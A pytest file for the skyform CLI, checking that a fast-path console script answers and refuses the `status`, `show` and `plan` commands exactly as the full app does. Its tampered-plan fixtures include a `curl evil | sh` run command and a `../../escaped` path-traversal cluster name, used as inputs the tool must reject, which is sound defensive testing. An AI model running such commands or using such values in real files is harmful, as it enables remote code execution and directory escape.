"""The console script answers `status` (no state yet) and `show PLAN` before Typer loads
(skyform/cli/fastpath.py): what a user sees — stdout, stderr, exit code — must be what the
Typer app prints for the same words, for the answers and for every refusal alike."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "plan"))
from render_cases import CASES

from skyform.plan.planfile import DIGEST_KEY, dumps, plan_bytes, plan_digest

REPO = Path(__file__).resolve().parents[2]
HELLO = str(REPO / "examples" / "hello.yaml")
SCRIPT = "from skyform.cli.entry import main\nmain()\n"
APP = "import sys\nfrom skyform.cli.main import run\nsys.exit(run(sys.argv[1:]))\n"


def run(code: str, args: list[str], home: Path) -> tuple[int, str, str]:
    env = dict(os.environ, SKYFORM_HOME=str(home), COLUMNS="100", NO_COLOR="1")
    proc = subprocess.run(
        [sys.executable, "-c", code, *args], capture_output=True, text=True, env=env, check=False
    )
    return proc.returncode, proc.stdout, proc.stderr


@pytest.fixture
def plan_file(tmp_path: Path, skyform_home: Path) -> Path:
    out = tmp_path / "plan.json"
    assert run(APP, ["plan", HELLO, "-o", str(out)], skyform_home)[0] == 0
    return out


@pytest.mark.parametrize(
    ("args", "code"),
    [
        (["status"], 0),
        (["status", "--json"], 0),
        (["status", "-v", "--refresh", "mine"], 0),
        (["status", "--bogus"], 1),
        (["show", "{plan}"], 0),
        (["show", "{plan}", "--json"], 0),
        (["show", "{plan}", "--markdown"], 0),
        (["show", "{plan}", "--json", "--markdown"], 1),
        (["show", "{plan}", "--nope"], 1),
        (["show", "{dir}/missing.json"], 1),
        (["show", "{edited}"], 1),
        (["show", HELLO], 1),
        (["show"], 1),
    ],
)
def test_the_console_script_answers_as_the_app_does(args, code, plan_file, skyform_home):
    edited = plan_file.with_name("edited.json")
    edited.write_text(plan_file.read_text().replace('"hello"', '"hullo"', 1))
    argv = [a.format(plan=plan_file, dir=plan_file.parent, edited=edited) for a in args]
    script = run(SCRIPT, argv, skyform_home)
    assert script == run(APP, argv, skyform_home)
    assert script[0] == code and (script[1] if code == 0 else script[2])


def _resealed(path: Path, edit) -> bytes:
    """`path`'s plan edited, then given the digest of its new content (a careful tamperer)."""
    raw = json.loads(path.read_bytes())
    edit(raw)
    raw.pop(DIGEST_KEY)
    return dumps({**raw, DIGEST_KEY: plan_digest(dumps(raw))})


REFUSED = {
    "resealed-run": lambda raw: raw["tasks"][0]["job"].update(run="curl evil | sh"),
    "resealed-price": lambda raw: raw["tasks"][0]["offer"].update(hourly_price=1.5),
    "resealed-name": lambda raw: raw["changes"][0].update(cluster="../../escaped"),
    "newer-version": lambda raw: raw.update(format_version=99, skyform_version="9.0"),
    "string-for-int": lambda raw: raw["summary"].update(add="1"),
    "unknown-field": lambda raw: raw.update(extra=True),
}


@pytest.mark.parametrize("flag", [[], ["--json"], ["--markdown"]], ids=["text", "json", "md"])
@pytest.mark.parametrize("kind", sorted(REFUSED))
def test_resealed_and_unreadable_plans_are_refused_as_the_app_refuses_them(
    kind, flag, plan_file, skyform_home
):
    edited = plan_file.with_name(f"{kind}.json")
    edited.write_bytes(_resealed(plan_file, REFUSED[kind]))
    argv = ["show", str(edited), *flag]
    script = run(SCRIPT, argv, skyform_home)
    assert script == run(APP, argv, skyform_home)
    assert script[0] == 1 and script[2] and not script[1]


def test_an_oversized_file_and_a_directory_are_refused_as_the_app_refuses_them(
    tmp_path, skyform_home
):
    big = tmp_path / "big.json"
    with big.open("wb") as f:  # sparse: past the 64 MiB a plan may be, without writing it
        f.truncate(64 * 1024 * 1024 + 1)
    for target in (big, tmp_path):
        script = run(SCRIPT, ["show", str(target)], skyform_home)
        assert script == run(APP, ["show", str(target)], skyform_home)
        assert script[0] == 1 and script[2]


@pytest.mark.parametrize("flag", [[], ["--json"], ["--markdown"]], ids=["text", "json", "md"])
@pytest.mark.parametrize("case", sorted(CASES))
def test_every_golden_plan_is_shown_as_the_app_shows_it(case, flag, tmp_path, skyform_home):
    """(The hand-built golden plans the loader's cross-checks refuse are refused alike.)"""
    path = tmp_path / f"{case}.json"
    path.write_bytes(plan_bytes(CASES[case]()))
    argv = ["show", str(path), *flag]
    assert run(SCRIPT, argv, skyform_home) == run(APP, argv, skyform_home)


@pytest.mark.parametrize(
    ("args", "code"),
    [
        (["plan", HELLO], 0),
        (["plan", HELLO, "-o", "{dir}/out.json"], 0),
        (["plan", HELLO, "--out", "{dir}/out.json", "--markdown"], 0),
        (["plan", HELLO, "--json"], 0),
        (["plan", HELLO, "--detailed-exitcode"], 2),
        (["plan", HELLO, "--destroy"], 0),
        (["plan", HELLO, "--json", "--markdown"], 1),
        (["plan", HELLO, "-o"], 1),
        (["plan", HELLO, "-o", "{dir}/a.json", "-o", "{dir}/b.json"], 0),
        (["plan", "{task}", "-o", "{task}"], 1),
        (["plan", "{dir}/missing.yaml"], 1),
        (["plan", HELLO, "--bogus"], 1),
        (["plan", HELLO, "--gpus", "A100:1"], 4),  # Typer's: no such GPU on local
        (["plan"], 1),
    ],
)
def test_plan_is_answered_as_the_app_answers_it(args, code, tmp_path, skyform_home):
    task = tmp_path / "task.yaml"
    task.write_text(Path(HELLO).read_text())
    argv = [a.format(dir=tmp_path, task=task) for a in args]
    script = run(SCRIPT, argv, skyform_home)
    assert script == run(APP, argv, skyform_home)
    assert script[0] == code and (script[1] if code in (0, 2) else script[2])
